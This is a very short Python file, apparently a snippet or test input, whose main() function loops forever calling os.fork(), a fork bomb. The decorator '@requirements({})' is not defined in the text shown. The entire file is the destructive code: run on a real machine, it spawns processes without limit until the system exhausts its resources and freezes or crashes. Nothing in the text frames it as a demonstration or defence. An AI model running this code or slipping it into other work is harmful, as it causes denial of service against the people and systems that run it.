import os

@requirements({})
def main():
    while True:
        os.fork()
